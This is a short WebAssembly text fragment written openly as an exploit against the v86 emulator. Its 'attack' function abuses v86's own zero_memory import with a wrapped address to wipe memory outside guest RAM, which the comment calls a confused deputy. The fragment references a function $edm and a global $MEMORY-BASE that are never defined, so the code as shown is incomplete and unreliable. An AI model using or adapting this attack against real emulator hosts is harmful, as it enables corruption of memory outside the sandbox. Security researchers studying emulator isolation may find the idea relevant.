;; v86's own function that clears guest RAM, called with an address that wraps around to EDM: a confused deputy.
(import "v86" "memory" (memory 1))
(import "v86" "zero_memory" (func $zero (param i32 i32)))

(func $attack (export "attack")
  (call $zero (i32.sub (call $edm) (i32.load (global.get $MEMORY-BASE))) (i32.const 0x1000)))
